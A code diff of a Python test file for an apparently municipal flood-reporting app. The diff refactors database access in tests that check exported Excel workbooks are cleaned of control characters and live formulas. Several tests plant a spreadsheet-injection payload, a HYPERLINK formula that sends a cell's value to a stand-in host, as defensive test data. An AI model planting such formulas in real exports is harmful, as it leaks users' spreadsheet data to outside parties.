@@ -13,8 +13,7 @@ from pantau.access.auth import authenticate
 from pantau.floods.sla import ServiceLevel
 from pantau.kernel.safetext import clean, defuse, export_frame
 from pantau.sites.rules import edit_site
-from pantau.store import Database, tables
-from pantau.store import events as event_store
+from pantau.store import Database
 
 NOW = datetime(2026, 11, 24, 3, 0)
 PLUIT = "31.72.01.1005"
@@ -55,15 +54,13 @@ def test_defuse_makes_formulas_literal(raw: object, out: object) -> None:
 def test_a_site_name_with_a_control_character_is_stored_clean(sample_copy: Database) -> None:
     """A lurah once saved `Pasar\\x01Pluit`; every XLSX download then failed."""
     lurah = authenticate(sample_copy, "lurah.pluit", "demo-lurah", NOW)
-    site = next(
-        s for s in tables.rows(sample_copy.cursor(), "sites") if s["kelurahan_kode"] == PLUIT
-    )
+    site = next(s for s in sample_copy.read().records.rows("sites") if s["kelurahan_kode"] == PLUIT)
     edit_site(
         sample_copy, lurah, int(site["id"]), int(site["version"]), {"name": "Pasar\x01Pluit"}, NOW
     )
-    stored = tables.get(sample_copy.cursor(), "sites", int(site["id"]))
+    stored = sample_copy.read().records.get("sites", int(site["id"]))
     assert stored is not None and stored["name"] == "PasarPluit"
-    history = event_store.for_record(sample_copy.cursor(), "site", int(site["id"]))
+    history = sample_copy.read().events.for_record("site", int(site["id"]))
     assert not history["new_value"].astype("string").str.contains("\x01", na=False).any()
 
 
@@ -87,9 +84,11 @@ def test_the_meeting_workbook_carries_no_live_formula(sample_copy: Database) -> 
     from pantau.meeting.brief import workbook
     from pantau.meeting.review import build_brief
 
-    cur = sample_copy.cursor()
-    for site in tables.rows(cur, "sites"):
-        tables.update(cur, "sites", site["id"], {"name": '=HYPERLINK("http://x/?a="&A1,"klik")'})
+    session = sample_copy.read()
+    for site in session.records.rows("sites"):
+        session.records.update(
+            "sites", site["id"], {"name": '=HYPERLINK("http://x/?a="&A1,"klik")'}
+        )
     brief = build_brief(sample_copy, date(2026, 11, 24), date(2026, 11, 17), NOW)
     book = openpyxl.load_workbook(io.BytesIO(workbook(brief)))
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
@@ -102,12 +101,12 @@ def test_site_and_report_list_downloads_carry_no_live_formula(sample_copy: Datab
     from pantau.floods import listing as report_list
     from pantau.sites import listing as site_list
 
-    cur = sample_copy.cursor()
+    session = sample_copy.read()
     formula = '=HYPERLINK("http://x/?a="&A1,"klik")'
-    for site in tables.rows(cur, "sites"):
-        tables.update(cur, "sites", site["id"], {"name": formula})
-    for report in tables.rows(cur, "reports")[:20]:
-        tables.update(cur, "reports", report["id"], {"note": formula})
+    for site in session.records.rows("sites"):
+        session.records.update("sites", site["id"], {"name": formula})
+    for report in session.records.rows("reports")[:20]:
+        session.records.update("reports", report["id"], {"note": formula})
     sekko = authenticate(sample_copy, "sekko", "demo-sekko", NOW)
     sites = site_list.site_rows(sample_copy, site_list.SiteQuery(), NOW)
     reports = report_list.report_rows(
